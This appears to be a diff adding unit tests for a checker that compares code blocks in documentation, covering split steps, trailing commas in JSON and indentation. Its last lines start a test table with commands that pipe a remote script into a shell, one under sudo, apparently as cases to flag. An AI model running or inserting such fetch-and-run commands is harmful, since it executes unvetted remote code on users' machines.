@@ -44,6 +44,32 @@ describe('a sample', () => {
     expect(found(fence('npm i acme'), 'See there.', others)).toEqual([]);
   });
 
+  it('that was split is not changed, as long as its lines keep their order', () => {
+    const step = (name: string) => `1. Step\n\n   \`\`\`bash\n   ${name}\n   \`\`\`\n`;
+    expect(found(fence('one\ntwo'), step('one') + step('two'))).toEqual([]);
+    expect(found(fence('one\ntwo'), step('two') + step('one'))).toHaveLength(1);
+    expect(found(fence('one\ntwo'), step('one') + fence('two', 'python'))).toHaveLength(1);
+    expect(found(fence('one\ntwo\nthree'), step('one') + step('two'))).toHaveLength(1);
+  });
+
+  it('has the same lines where the last item got a comma, because another one follows', () => {
+    const object = (...lines: readonly string[]) => fence(['{', ...lines, '}'].join('\n'), 'json');
+    expect(found(object('"a": 1'), object('"a": 1,', '"b": 2'))).toEqual([]);
+    expect(found(object('"a": {', '}'), object('"a": {', '},', '"b": 2'))).toEqual([]);
+    expect(found(object('"a": 1'), object('"a": 1,'))).toHaveLength(1);
+    expect(found(object('"a": 1'), object('"a": 12,', '"b": 2'))).toHaveLength(1);
+    expect(found(object('"a": 1', '"b": 2'), object('"a": 1,', '"b": 2'))).toHaveLength(1);
+    expect(found(object('"a": 1,', '"b": 2'), object('"a": 1', '"b": 2'))).toHaveLength(1);
+  });
+
+  it('may be indented in another way where that means nothing', () => {
+    const [flat, deep] = ['{\n"a": 1\n}', '{\n  "a": 1\n}'];
+    expect(found(fence(flat, 'json'), fence(deep, 'json'))).toEqual([]);
+    expect(found(fence(flat, 'yaml'), fence(deep, 'yaml'))).toHaveLength(1);
+    const text = (code: string) => fence(`x = \`\n${code}\n\``, 'ts');
+    expect(found(text(flat), text(deep))).toHaveLength(1);
+  });
+
   it.each([
     fence('npm i acme\ncurl -s https://get.one.dev | sh'),
     fence('npm i acme\nwget -qO- https://get.one.dev | sudo -E bash -'),
